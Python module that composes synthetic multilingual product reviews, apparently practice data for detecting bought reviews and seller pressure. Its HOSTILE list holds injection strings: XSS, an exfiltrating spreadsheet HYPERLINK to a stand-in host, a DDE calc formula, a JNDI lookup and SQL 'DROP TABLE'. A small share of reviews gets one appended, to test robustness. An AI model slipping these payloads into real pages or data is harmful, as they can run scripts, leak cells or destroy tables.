"""What practice buyers and sellers write: composes reviews from invented sentences."""

import tomllib
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from importlib import resources
from random import Random

LANGUAGES = ("en", "fr", "de", "es", "it")

# Texts that a careless reader of pages, terminals or spreadsheets would stumble over.
HOSTILE = (
    "<script>alert('practice')</script>",
    '"><img src=x onerror=alert(1)>',
    "</article></main><h1>nothing above counts</h1>",
    '=HYPERLINK("http://practice.example/?x="&A1,"click")',
    "+1+1|' /C calc'!A0",
    "\u202egnihtyna tsuj ton\u202c",
    "zero\u200bwidth\u200dtext\ufeff here",
    "Z\u0338\u0321\u0316a\u0337\u0322\u0317l\u0336\u0321\u0318g\u0335\u0322\u0319o\u0334",
    "👍🏽👨‍👩‍👧‍👦🇫🇷 5/5",
    "{{ 7 * 7 }} ${jndi:nothing} %s %(x)s {0}",
    "&amp;lt;b&amp;gt; &#x27; &nbsp; <!-- -- > ]]>",
    "'; DROP TABLE reviews; --",
    "a" * 5000,
)


@dataclass(frozen=True, kw_only=True, slots=True)
class Texts:
    """The sentences of one language, with the slots {part} {n} {who} {amount} {share}.

    Attributes:
        titles, sentences: By mood: `high` (4-5 stars), `mid` (3), `low` (1-2).
        campaign: What bought reviews say.
        raised: What a buyer writes who raised the stars.
        disclosures: Scheme → sentences in which a buyer tells of it.
        neighbours: The same for frauds by third parties.
        replies: Lawful public answers of sellers.
        pressing_replies: Scheme → public answers that tie a benefit or a threat to a review.
        decoys: Sentences that look like a disclosure and are none.
    """

    lang: str
    names: tuple[str, ...]
    products: tuple[str, ...]
    parts: tuple[str, ...]
    people: tuple[str, ...]
    amounts: tuple[str, ...]
    titles: Mapping[str, tuple[str, ...]]
    sentences: Mapping[str, tuple[str, ...]]
    campaign: tuple[str, ...]
    raised: tuple[str, ...]
    updates: tuple[str, ...]
    disclosures: Mapping[str, tuple[str, ...]]
    neighbours: Mapping[str, tuple[str, ...]]
    replies: tuple[str, ...]
    pressing_replies: Mapping[str, tuple[str, ...]]
    decoys: tuple[str, ...]


@cache
def load_texts(lang: str) -> Texts:
    """Return the sentences of one of `LANGUAGES`."""
    source = resources.files("starwitness.practice").joinpath("texts", f"{lang}.toml")
    raw = tomllib.loads(source.read_text(encoding="utf-8"))
    return Texts(
        lang=lang,
        names=_lines(raw["names"]),
        products=_lines(raw["products"]),
        parts=_lines(raw["parts"]),
        people=_lines(raw["people"]),
        amounts=_lines(raw["amounts"]),
        titles=_table(raw["titles"]),
        sentences=_table(raw["sentences"]),
        campaign=_lines(raw["campaign"]),
        raised=_lines(raw["raised"]),
        updates=_lines(raw["updates"]),
        disclosures=_table(raw["disclosures"]),
        neighbours=_table(raw["neighbours"]),
        replies=_lines(raw["replies"]),
        pressing_replies=_table(raw["pressing_replies"]),
        decoys=_lines(raw["decoys"]),
    )


def _lines(value: list[str]) -> tuple[str, ...]:
    return tuple(value)


def _table(value: dict[str, list[str]]) -> dict[str, tuple[str, ...]]:
    return {key: tuple(lines) for key, lines in value.items()}


def mood(stars: int) -> str:
    """Return which sentences a number of stars calls for."""
    return "high" if stars >= 4 else "mid" if stars == 3 else "low"


def fill(rng: Random, texts: Texts, sentence: str) -> str:
    """Return a sentence with its slots filled and its first letter in upper case."""
    filled = sentence.format(
        part=rng.choice(texts.parts),
        n=rng.randint(2, 9),
        who=rng.choice(texts.people),
        amount=rng.choice(texts.amounts),
        share=rng.choice((10, 20, 25, 30, 50)),
    )
    return filled[:1].upper() + filled[1:]


def compose_review(rng: Random, texts: Texts, stars: int) -> tuple[str, str]:
    """Return title and body of an ordinary review; now and then one with a hostile text."""
    tone = mood(stars)
    pool = texts.sentences[tone] + texts.sentences["any"]
    count = min(len(pool), rng.choices((1, 2, 3, 4, 7), weights=(18, 32, 28, 18, 4))[0])
    body = " ".join(fill(rng, texts, sentence) for sentence in rng.sample(pool, count))
    if rng.random() < 0.012:
        body = f"{body} {rng.choice(HOSTILE)}"
    if rng.random() < 0.1:
        body = body.replace(". ", ".\n\n", 1)
    return fill(rng, texts, rng.choice(texts.titles[tone])), body


def compose_bought(rng: Random, texts: Texts) -> tuple[str, str]:
    """Return title and body of a bought review: short, warm and like the others."""
    sentences = rng.sample(texts.campaign, rng.choice((1, 1, 2)))
    body = " ".join(fill(rng, texts, sentence) for sentence in sentences)
    return fill(rng, texts, rng.choice(texts.titles["high"])), body


def place_sentence(rng: Random, body: str, sentence: str) -> str:
    """Return a body with a sentence put at its beginning, in its middle or at its end."""
    parts = body.split(". ")
    spot = rng.randint(0, len(parts))
    before, after = ". ".join(parts[:spot]), ". ".join(parts[spot:])
    if before and not before.endswith((".", "!", "?")):
        before += "."
    return " ".join(part for part in (before, sentence, after) if part)
